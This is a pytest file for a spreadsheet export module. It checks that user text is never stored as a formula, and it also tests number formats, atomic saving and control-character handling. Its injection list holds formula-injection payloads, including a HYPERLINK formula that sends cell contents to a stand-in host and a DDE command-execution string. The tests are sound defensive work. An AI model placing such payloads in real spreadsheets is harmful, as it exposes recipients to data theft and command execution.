"""Writing: text never becomes a formula, one set of formats, atomic saving."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mutualis import sheets

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
]


def test_user_text_is_never_written_as_a_formula(tmp_path: Path):
    workbook = sheets.new_workbook()
    sheet = workbook.create_sheet("Données")
    sheets.append(sheet, INJECTIONS)
    for index, text in enumerate(INJECTIONS, start=1):
        sheets.put(sheet, 2, index, text)
    data = sheets.to_bytes(workbook)
    reread = load_workbook(io.BytesIO(data))["Données"]
    for row in (1, 2):
        for index, text in enumerate(INJECTIONS, start=1):
            target = reread.cell(row=row, column=index)
            assert target.value == text
            assert target.data_type == "s"
            assert target.quotePrefix
    assert b"<f>" not in data


def test_write_only_workbooks_are_safe_too():
    workbook = sheets.new_workbook(write_only=True)
    sheet = workbook.create_sheet("Export")
    sheets.append(
        sheet, ["=cmd|' /C calc'!A0", Decimal("12.50"), date(2026, 1, 31)], ["", sheets.EURO_FORMAT]
    )
    reread = load_workbook(io.BytesIO(sheets.to_bytes(workbook)))["Export"]
    assert reread["A1"].data_type == "s"
    assert reread["B1"].number_format == sheets.EURO_FORMAT
    assert reread["C1"].number_format == sheets.DATE_FORMAT


def test_header_title_and_list_validation():
    workbook = sheets.new_workbook()
    sheet = workbook.create_sheet("Unites")
    sheets.title(sheet, "Données fictives", warning=True)
    sheets.header(sheet, 2, ["Code", "Usage propre"], [16, 14])
    sheets.list_validation(sheet, '"oui,non"', "B3:B500", error="Répondez oui ou non.")
    reread = load_workbook(io.BytesIO(sheets.to_bytes(workbook)))["Unites"]
    assert reread["A2"].font.bold
    assert reread.freeze_panes == "A3"
    assert reread.data_validations.dataValidation[0].formula1 == '"oui,non"'


def test_saving_is_atomic(tmp_path: Path):
    target = tmp_path / "sortie" / "etats.xlsx"
    workbook = sheets.new_workbook()
    workbook.create_sheet("A")
    sheets.save_atomic(workbook, target)
    assert load_workbook(target).sheetnames == ["A"]

    class Broken(Exception):
        pass

    def explode(path: str) -> None:
        Path(path).write_bytes(b"partial")
        raise Broken

    workbook.save = explode  # type: ignore[method-assign]
    with pytest.raises(Broken):
        sheets.save_atomic(workbook, target)
    assert load_workbook(target).sheetnames == ["A"]
    assert [p.name for p in target.parent.iterdir()] == ["etats.xlsx"]


def test_one_mime_type():
    assert sheets.XLSX_MIME.endswith("spreadsheetml.sheet")


def _row_writer_sheet(rows: list[list[object]], formats: list[str | None]):  # type: ignore[no-untyped-def]
    book = sheets.StreamBook()
    writer = book.sheet("Export", formats, widths=[30], freeze="B2")
    writer.title("Titre", warning=True)
    writer.header(["Texte", "Montant", "Date"])
    for row in rows:
        writer.append(row)
    data = book.to_bytes()
    return data, load_workbook(io.BytesIO(data))["Export"]


def test_row_writer_keeps_user_text_as_text_on_every_row():
    """Streamed rows keep the guarantees of the normal writer, row after row."""
    texts = [*INJECTIONS, "#N/A", "#REF!", "Texte simple", "Deux\nlignes", "=A1\nB1"]
    data, sheet = _row_writer_sheet([[text] for text in texts], [])
    assert b"<f>" not in data
    for number, text in enumerate(texts, start=3):
        target = sheet.cell(row=number, column=1)
        assert (target.value, target.data_type) == (text, "s")
        assert target.quotePrefix == text.startswith(("=", "+", "-", "@"))
        assert bool(target.alignment.wrap_text) == ("\n" in text)


def test_row_writer_formats_numbers_and_dates_and_leaves_plain_values_plain():
    rows = [
        ["Paie", Decimal("1234.50"), date(2026, 1, 31)],
        ["Voirie", Decimal("99.99"), date(2027, 6, 30)],
        ["", None, None],
        [7, 12, True],
    ]
    _, sheet = _row_writer_sheet(rows, [None, sheets.EURO_FORMAT])
    assert sheet["A1"].value == "Titre" and sheet["A1"].font.bold
    assert sheet["A2"].font.bold and sheet["A2"].fill.fgColor.rgb.endswith("DCE3EE")
    assert sheet.freeze_panes == "B2"
    assert 30 <= sheet.column_dimensions["A"].width < 31  # XlsxWriter adds the cell padding
    assert [(c.value, c.number_format) for c in sheet[3]] == [
        ("Paie", "General"),
        (1234.5, sheets.EURO_FORMAT),
        (datetime(2026, 1, 31), sheets.DATE_FORMAT),
    ]
    assert [c.value for c in sheet[4]] == ["Voirie", 99.99, datetime(2027, 6, 30)]
    assert [c.value for c in sheet[5]] == [None, None, None]  # empty text: an empty cell
    assert [(c.value, c.number_format) for c in sheet[6]] == [
        (7, "General"),
        (12, sheets.EURO_FORMAT),
        (True, "General"),
    ]


def test_row_writer_takes_a_format_per_row_and_refuses_other_values():
    book = sheets.StreamBook()
    writer = book.sheet("Synthèse", [None, sheets.INTEGER_FORMAT])
    writer.append(["Membres", 158])
    writer.append(["Taux", Decimal("0.5")], [None, sheets.SHARE_FORMAT])
    with pytest.raises(TypeError):
        writer.append([object()])
    sheet = load_workbook(io.BytesIO(book.to_bytes()))["Synthèse"]
    assert [sheet["B1"].number_format, sheet["B2"].number_format] == [
        sheets.INTEGER_FORMAT,
        sheets.SHARE_FORMAT,
    ]


def test_control_characters_are_dropped_rather_than_failing_the_file():
    """A vertical tab pasted from a word processor cannot be stored in a worksheet."""
    book = sheets.StreamBook()
    writer = book.sheet("Export")
    writer.append(["Besoin\x0bsur deux lignes", "=A1\x07"])
    writer.append(["Sonnerie\x07"])
    normal = sheets.new_workbook()
    sheets.put(normal.create_sheet("Normale"), 1, 1, "Bip\x07")
    exported = load_workbook(io.BytesIO(book.to_bytes()))["Export"]
    assert [c.value for c in exported[1]] == ["Besoinsur deux lignes", "=A1"]
    assert exported["B1"].data_type == "s" and exported["B1"].quotePrefix
    assert exported["A2"].value == "Sonnerie"
    assert normal["Normale"]["A1"].value == "Bip"
